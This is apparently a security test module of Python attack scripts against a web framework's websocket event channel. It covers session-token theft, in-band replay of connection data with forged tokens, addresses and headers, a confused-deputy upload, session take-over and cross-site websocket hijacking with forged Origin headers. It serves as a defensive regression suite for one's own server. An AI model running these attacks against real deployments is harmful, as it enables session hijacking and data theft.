"""Attacks on the event channel, each a script that tells whether it has succeeded.

``python -m tests.reflex_adapter.attacks http://127.0.0.1:8000 NAME_OF_A_VAULT_STATE`` tries them on
a server of yours, whose state has the handlers of ``tests/probe/vault.py``.
"""

from __future__ import annotations

import asyncio
import json
import sys
import uuid
from collections.abc import Awaitable, Callable
from contextlib import suppress
from dataclasses import dataclass
from urllib.parse import urlsplit

import httpx
import websockets

from tests.reflex_adapter.client import ROOT, EventClient, connected
from tests.reflex_adapter.secret import SECRET, shows

FORGED_ADDRESS = "203.0.113.9"
FORGED_HEADERS = {"cookie": "sessionid=forged", "host": "forged.example"}
OVERWRITTEN = "written by somebody else"
A_WHILE = 0.3  # seconds, until a server knows that a client has left


@dataclass(frozen=True)
class Target:
    """A server, the full name of its vault's state, and the cookies by which it knows a victim."""

    address: str
    vault: str
    victim: str = "sessionid=of-the-victim"


Attack = Callable[[Target], Awaitable[bool]]


async def left_behind(target: Target) -> str:
    """Return the token of a tab that has kept its secret, and is gone."""
    token = str(uuid.uuid4())
    async with connected(target.address, token=token, cookie=target.victim) as owner:
        await owner.call(f"{target.vault}.keep", value=SECRET)
    await asyncio.sleep(A_WHILE)
    return token


async def hydrated_shows_secret(thief: EventClient) -> bool:
    """Tell whether the secret is shown on the socket, which may have been closed by now."""
    with suppress(websockets.ConnectionClosed, TimeoutError):
        await thief.send(f"{ROOT}.hydrate")
        while not shows(thief):
            await thief.receive(2)
    return shows(thief)


async def token_theft(target: Target) -> bool:
    """Connect with the token of a tab that has left."""
    token = await left_behind(target)
    async with connected(target.address, token=token) as thief:
        return shows(thief)


async def replay_of_a_token(target: Target) -> bool:
    """Say in band that this socket connects, with the token of another tab."""
    token = await left_behind(target)
    async with connected(target.address) as thief:
        await thief.emit("connect", {"QUERY_STRING": f"token={token}", "asgi.scope": {}})
        return await hydrated_shows_secret(thief)


async def replay_of_an_address(target: Target) -> bool:
    """Say in band from which address this socket connects."""
    async with connected(target.address) as thief:
        await thief.emit("connect", {"asgi.scope": {"client": [FORGED_ADDRESS, 1]}})
        return FORGED_ADDRESS in await described(target, thief)


async def replay_of_headers(target: Target) -> bool:
    """Say in band with which cookies and host this socket connects, in a binary packet.

    Headers are bytes, which come as attachments.
    """
    parts = [part.encode() for header in FORGED_HEADERS.items() for part in header]
    marks = [{"_placeholder": True, "num": number} for number in range(len(parts))]
    environ = {"asgi.scope": {"headers": [marks[:2], marks[2:]], "client": [FORGED_ADDRESS, 1]}}
    async with connected(target.address) as thief:
        data = json.dumps(["connect", environ])
        await send_all(thief, f"45{len(parts)}-/_event,{data}", *parts)
        told = await described(target, thief)
        return any(forged in told for forged in (*FORGED_HEADERS.values(), FORGED_ADDRESS))


async def binary_replay_of_a_token(target: Target) -> bool:
    """Say in band, in a binary packet, that this socket has the token of another tab."""
    token = await left_behind(target)
    environ = {
        "QUERY_STRING": f"token={token}",
        "asgi.scope": {},
        "x": {"_placeholder": True, "num": 0},
    }
    async with connected(target.address) as thief:
        await send_all(thief, f"451-/_event,{json.dumps(['connect', environ])}", b"x")
        return await hydrated_shows_secret(thief)


async def send_all(thief: EventClient, *frames: str | bytes) -> None:
    for frame in frames:
        await thief.socket.send(frame)


async def described(target: Target, tab: EventClient) -> str:
    """Return who the server says is asking by this socket."""
    with suppress(websockets.ConnectionClosed, TimeoutError):
        await tab.send(f"{target.vault}.describe")
        await tab.receive_until(lambda tab: tab.var(target.vault, "told"), 3)
    return str(tab.var(target.vault, "told") or "")


async def confused_deputy(target: Target) -> bool:
    """Upload with the victim's token and cookies of one's own: whose state, and as whom?"""
    token = await left_behind(target)
    answer = await handed_in(target, token, "sessionid=of-the-attacker")
    return SECRET in answer or target.victim in answer


async def handed_in(target: Target, token: str, cookie: str) -> str:
    """Upload for the tab that has ``token``; return what the answer shows."""
    headers = {
        "Origin": target.address,
        "Cookie": cookie,
        "Reflex-Client-Token": token,
        "Reflex-Event-Handler": f"{target.vault}.hand_in",
    }
    async with httpx.AsyncClient(headers=headers) as browser:
        files = {"files": ("a.txt", b"abc")}
        return (await browser.post(f"{target.address}/_upload", files=files)).text


async def take_over(target: Target) -> bool:
    """Be there with the token of a tab that has lost its connection, before it comes back."""
    token = str(uuid.uuid4())
    async with connected(target.address, token=token, cookie=target.victim) as owner:
        await owner.call(f"{target.vault}.keep", value=SECRET)
        visitor = owner.visitor
    await asyncio.sleep(A_WHILE)
    async with (
        connected(target.address, token=token) as thief,
        connected(target.address, token=token, cookie=target.victim, visitor=visitor) as again,
    ):
        await thief.call(f"{target.vault}.keep", value=OVERWRITTEN)
        return shows(thief) or not shows(again) or bool(again.tokens)


async def duplicate_tab(target: Target) -> bool:
    """Have a tab with the victim's token beside the victim's, and see what that tells."""
    token = str(uuid.uuid4())
    async with connected(target.address, token=token, cookie=target.victim) as owner:
        await owner.call(f"{target.vault}.keep", value=SECRET)
        async with connected(target.address, token=token) as thief:
            # A new token says that the victim is there.
            return shows(thief) or bool(thief.tokens)


def from_origins(*origins: str) -> Attack:
    """Open a socket with the victim's cookies from a page of somebody else's."""

    async def hijacking(target: Target) -> bool:
        url = urlsplit(target.address)
        said = [
            ("Origin", origin.format(own=target.address, host=url.netloc, name=url.hostname))
            for origin in origins
        ]
        try:
            async with connected(
                target.address, cookie=target.victim, origin=None, headers=said
            ) as tab:
                return bool(await described(target, tab))
        except websockets.InvalidStatus:
            return False

    return hijacking


ATTACKS: dict[str, Attack] = {
    "token theft": token_theft,
    "replay of a token": replay_of_a_token,
    "replay of an address": replay_of_an_address,
    "replay of headers": replay_of_headers,
    "binary replay of a token": binary_replay_of_a_token,
    "confused deputy": confused_deputy,
    "take-over": take_over,
    "duplicate tab": duplicate_tab,
    "foreign Origin": from_origins("https://evil.example"),
    "null Origin": from_origins("null"),
    "Origin of another port": from_origins("http://{name}:1"),
    "Origin of a sibling subdomain": from_origins("http://evil.{host}"),
    "Origin of another scheme": from_origins("https://{host}"),
    "doubled Origin": from_origins("{own}", "https://evil.example"),
    "doubled Origin, foreign first": from_origins("https://evil.example", "{own}"),
    "no Origin": from_origins(),
}


async def main(address: str, vault: str) -> None:
    for name, attack in ATTACKS.items():
        succeeded = await attack(Target(address, vault))
        print(f"{name}: {'SUCCEEDED' if succeeded else 'failed'}")


if __name__ == "__main__":
    asyncio.run(main(*sys.argv[1:]))
